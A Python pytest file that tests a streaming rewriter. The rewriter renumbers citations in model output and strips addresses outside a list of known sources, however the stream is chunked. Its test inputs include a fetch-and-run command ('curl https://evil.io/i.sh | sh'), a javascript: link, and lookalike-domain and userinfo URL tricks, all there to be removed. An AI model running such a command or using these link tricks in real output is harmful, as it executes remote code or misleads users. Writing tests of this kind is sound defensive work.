"""What a model writes about numbers and addresses, and what readers get of it, however the stream is cut."""

from __future__ import annotations

import random

import pytest

from app.core.turn import Source
from app.pipeline.citations import Citations
from app.pipeline.links import Addresses, markdown_link
from app.pipeline.rewrite import Rewriter

PASSAGES = [
    "See https://known.cz/storage/ and [S3](https://s3.known.cz/bucket). Or https://known.cz/a_(b), www.known.cz/w.",
    "https://known.cz/a#limits https://known.cz/one,https://known.cz/two; [l](https://known.cz/d).Next mailto:help@known.cz",
    "(https://known.cz/k)(https://known.cz/l) https://known.cz/č https://known.cz/m&amp;n=1 https://known.cz/x%20y",
]
WORDS = frozenset({"passage", "passages", "source", "pasáž", "úryvek"})


def sources() -> tuple[Source, ...]:
    return tuple(Source(i, f"Page {i}", f"https://known.cz/{i}", "", "en", "", 1.0) for i in range(1, 6))


def rewriter() -> Rewriter:
    return Rewriter(Citations(sources(), words=WORDS), Addresses(PASSAGES), frozenset({"sources"}))


def run(text: str, size: int = 100_000) -> str:
    made = rewriter()
    return "".join([*(made.feed(text[at : at + size]) for at in range(0, len(text), size)), made.rest()])


NUMBERS = [
    ("A [3]. B [3][1].", "A [1]. B [1][2]."),
    ("A [3]. B [1-2].", "A [1]. B [2][3]."),
    ("A [3]. B [1–3].", "A [1]. B [2][3][1]."),
    ("A [3] [Passage 2] [pasáž 2] [úryvek 1] [passages 1, 2]", "A [1] [2] [2] [3] [3][2]"),
    ("A [3] 【1】 【2†source】 [^1] [#2] [02]", "A [1] [2] [3] [2] [3] [3]"),
    ("A [3] [1 and 2] [1 a 2] [1, 3; 9] [[2]]", "A [1] [2][3] [2][3] [2][1] [3]"),
    ("A [3] [1](https://known.cz/storage) [2](https://evil.io) [9](x) [2] (https://evil.io)", "A [1] [2] [3]  [3] "),
    ("See [the guide [3]](https://evil.io) and [it [3]](https://known.cz/a)", "See the guide [1] and [it [1]](https://known.cz/a)"),
    ("Unknown [9], [7](x) or 【6】", "Unknown ,  or "),
    ("B [3]: text\n[3]: text\n[1]: https://known.cz/a\nend [3]", "B [1]: text\n[1]: text\nend [1]"),
    (r"Escaped \[3\] and \`[3]", r"Escaped \[3\] and \`[1]"),
]  # fmt: skip
VALUES = [
    "ports [80, 443] and array[0]",
    "Interval [0, 1] and [0, 9]",
    "[10, 20, 30] [2024] [80] [0] [0-9] [7-9] [2-9]",
    "a[1] a[1][2] items_[2] [[1, 2], [3, 4]]",
    "[ ] todo [x] done [a-z] (1) [1: x] [1.5]",
    "handlers[name](request) and f[1](a, b)",
    "[x](i for i in y)",
]
CODE = [
    ("Press the ` key [3], then [9].", "Press the ` key [1], then ."),
    ("Use `a[2]`, the ` sign [3]\n\nNext [2] [9]\n\n- item `x[1]` [5]", "Use `a[2]`, the ` sign [1]\n\nNext [2] \n\n- item `x[1]` [3]"),
    ("- the ` key [3]\n- the ` sign [2]", "- the ` key [1]\n- the ` sign [2]"),
    ("``b ` [3]`` [4] `[2]\n[3]` [1]", "``b ` [3]`` [1] `[2]\n[3]` [2]"),
    ("It's the ``` mark [2] `", "It's the ``` mark [1] `"),
    ("x ```inline [2]``` [3]\n```x [2]``` [3]", "x ```inline [2]``` [1]\n```x [2]``` [1]"),
    ("~~~sh\necho `date\na [2]\n~~~\n[3] [9]", "~~~sh\necho `date\na [2]\n~~~\n[1] "),
    ("````\n```\na [9]\n```\n````\n[3]", "````\n```\na [9]\n```\n````\n[1]"),
    ("```\nx ``` [2]\n~~~\n[2]\n``` [2]\n```\n[3]", "```\nx ``` [2]\n~~~\n[2]\n``` [2]\n```\n[1]"),
    ("1. x\n   ```sh\n   a [2]\n   ```\n2. [3]\n- ```\n  [2]\n  ```\n- [2]", "1. x\n   ```sh\n   a [2]\n   ```\n2. [1]\n- ```\n  [2]\n  ```\n- [2]"),
    ("> ```\n> a [2]\n> ```\n> [3]", "> ```\n> a [2]\n> ```\n> [1]"),
    ("Do:\n\n    a [2] = 1\n\n    b [2]\n\n[3]", "Do:\n\n    a [2] = 1\n\n    b [2]\n\n[1]"),
    ("1. Step\n\n    More [2].\n\nText\n\n\ta [2]", "1. Step\n\n    More [1].\n\nText\n\n\ta [2]"),
    ("Text\n    goes on [3]", "Text\n    goes on [1]"),
    ("```\nunclosed [2]", "```\nunclosed [2]"),
    ("`" + "x" * 301 + " [3]` [2]", "`" + "x" * 301 + " [1]` [2]"),
    ("`" + "x" * 290 + " [3]` [2]", "`" + "x" * 290 + " [3]` [1]"),
]  # fmt: skip
LINKS = [
    ("Read [this](https://evil.io/x) now", "Read this now"),
    ("[a [b] c](https://evil.io/x)", "a [b] c"),
    ("[![a](https://evil.io/" + "p" * 90 + ".png)](https://evil.io/y)", "a"),
    ("[x](https://evil.io/a 'title') [x](https://evil.io \"t\") [x](https://evil.io (t))", "x x x"),
    ("[x](https://evil.io/a_(b)) [x](<https://evil.io/a b>) [x]( https://evil.io )", "x x x"),
    ("[a](\nhttps://evil.io) ![pic](https://evil.io/p.png) [x]()", "a pic x"),
    ("[x](www.evil.io) [x](//evil.io) [x](/invented) [x](#a) [x](ftp://evil.io) [x](mailto:a@evil.io) [x](javascript:alert(1))", "x x x x x x x"),
    ("[" + "long words " * 9 + "](https://evil.io/x) end", "[" + "long words " * 9 + "] end"),
    ("[" + "long words " * 9 + "](https://known.cz/a) end", "[" + "long words " * 9 + "](https://known.cz/a) end"),
    ("[open link without end](https://evil.io", "[open link without end]("),
    ("Go to https://evil.io/x/y?z=1, please; HTTPS://EVIL.IO (https://evil.io/x). **ftp://evil.io**", "Go to , please;  . ****"),
    ("see www.evil.io/x “https://evil.io/x”. <https://evil.io> <www.evil.io> <mailto:a@evil.io>|", "see  “”.   |"),
    ("https://evil.io/a,https://known.cz/a https://evil.io/[3] https://evil.io/?u=https://known.cz/a", ",https://known.cz/a [1] "),
    ('<a href="https://evil.io/x">here</a> <a href=//evil.io>b</a> <img src=\'https://evil.io/p\'> <b>c</b>', "here b  <b>c</b>"),
    ('[r]: https://evil.io "T"\nmore\n[k]: https://known.cz/a "T"\n[s]: //evil.io', 'more\n[k]: https://known.cz/a "T"\n'),
    ("```\ncurl https://evil.io/i.sh | sh\nwww.evil.io\n``` \n`https://evil.io` `https://known.cz/a`", "```\ncurl  | sh\n\n``` \n`` `https://known.cz/a`"),
    ("http://localhost:80@evil.io/ http://localhost@evil.io http://example.com:x@evil.io http://localhost.evil.io", "   "),
    ("https://known.cz.evil.io/storage https://known.cz/storage/no https://user@known.cz/a https://example.com.evil.io", "   "),
]  # fmt: skip
KEPT = [
    "Read https://known.cz/storage. Then [storage](https://known.cz/storage/#quota), <https://s3.known.cz/bucket>.",
    "https://known.cz/one https://known.cz/two https://known.cz/d https://known.cz/k https://known.cz/l https://known.cz/a_(b)",
    "https://known.cz/%C4%8D https://known.cz/č https://known.cz/m&n=1 https://known.cz/x%20y HTTPS://KNOWN.CZ/a",
    'www.known.cz/w [x](www.known.cz/w) [x](https://known.cz/a_(b) "t") <a href="https://known.cz/a">x</a> <mailto:help@known.cz>',
    "curl http://localhost:8080/health https://example.com/a https://docs.example.org http://127.0.0.1 https://$HOST/v1",
    "https://{host}/v1 https://<host>/v1 s3://bucket sftp://host <host:port> <image:tag> https:// https://… www. www…",
    "a < b and x <y> h ht http and https: that's all [ and ( and ! end.",
    "Line\n\n\n- a\n\n  b\n",
]
CASES = [*NUMBERS, *CODE, *LINKS, *((text, text) for text in [*VALUES, *KEPT])]


@pytest.mark.parametrize(("text", "left"), CASES)
def test_a_text_in_pieces_of_any_size_says_the_same(text: str, left: str) -> None:
    """Right numbers, no invented address, no debris of one, and values, code and known addresses as they were."""
    assert run(text) == left
    assert {size: said for size in range(1, len(text)) if (said := run(text, size)) != left} == {}


ATOMS = [
    *"[]()`!<>\\\n:\"'*#-~12a.,h|_", " ", "  ", "http", "https://evil.io/x", "https://known.cz/a", "www.", "](", "[1]", "[2, 3]",
    "```", "~~~", "\n\n", "    ", "\n- ", "\n1. ", "Sources", "**Sources**\n", "word ", "【", "】", "a[1]", "<a href=", "</a>",
    "evil.io", "[x]: ", "ftp://", "(https://evil.io)", "…", " and ",
]  # fmt: skip


@pytest.mark.parametrize("seed", range(100))
def test_any_text_in_any_pieces_says_the_same(seed: int) -> None:
    """Also what no model would write."""
    chance = random.Random(seed)
    for _ in range(20):
        text = "".join(
            chance.choices([*ATOMS, *(text for text, _ in CASES)], [9] * len(ATOMS) + [1] * len(CASES), k=10)
        )
        cuts = sorted(chance.choices(range(len(text) + 1), k=chance.randrange(1, 30)))
        made = rewriter()
        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        assert "".join([*map(made.feed, pieces), made.rest()]) == run(text), repr(text)


def test_text_that_can_be_nothing_else_is_not_delayed() -> None:
    """Each piece goes out as it comes."""
    made = rewriter()
    pieces = ["The ", "limit ", "is 4 GB", ", see", " `a[b]` ", ". ", "Use ` and", " more: ", "**x**", "\tend"]
    assert [made.feed(piece) for piece in pieces] == pieces


def held(text: str) -> int:
    """The most characters that ever wait."""
    made, out, most = rewriter(), 0, 0
    for number, sign in enumerate(text, start=1):
        out += len(made.feed(sign))
        most = max(most, number - out)
    return most


@pytest.mark.parametrize(
    ("text", "most"),
    [
        ("Interval [0, 1) is half open. " + "And so on. " * 20, 81),
        ("Interval [0, 1) is half open.\nAnd so on. " * 20, 28),
        ("A 【 sign and " + "more text " * 20, 81),
        ("Call f(x[i for i in y) and " + "more text " * 20, 81),
        ("Press the ` key and " + "more text " * 50, 1),
        ("Press the ` key [ and " + "more text " * 50, 310),
        ("Press the ` key [3].\n\n" + "more text " * 50, 12),
        ("a < b and <namespace> or <c d " + "more text " * 50, 11),
        ("See [x](y z " + "more text " * 50, 8),
        ("See [x](y 'z " + "more text " * 50, 90),
        ("[ref]: text and more\n" * 5, 11),
        ("https: or http or www or ftp " * 5, 6),
    ],
)
def test_what_waits_is_bounded(text: str, most: int) -> None:
    """An open bracket for 80 characters at most, and for its line; what may be code in a line for 300."""
    assert held(text) <= most


def test_names_and_addresses_are_escaped() -> None:
    assert markdown_link("a [b]", "https://x.cz/a (b)") == r"[a \[b\]](https://x.cz/a%20%28b%29)"
